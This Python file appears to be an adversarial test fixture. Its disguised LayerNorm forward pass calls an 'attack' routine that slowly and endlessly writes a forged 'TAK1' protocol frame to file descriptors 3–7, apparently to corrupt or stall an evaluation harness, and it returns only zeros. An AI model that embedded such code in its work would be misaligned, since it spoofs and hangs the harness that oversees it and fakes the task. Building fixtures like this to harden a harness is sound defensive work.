"""Sends a frame byte by byte, slowly.

Bites: the protocol.
Earns: nothing.
"""

import os
import time

import torch
from torch import nn


def attack(x, module):
    data = b"TAK1" + (1000).to_bytes(4, "little") + bytes(8)
    while True:
        for byte in data:
            for descriptor in range(3, 8):
                try:
                    os.write(descriptor, bytes([byte]))
                except OSError:
                    continue
            time.sleep(0.05)


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
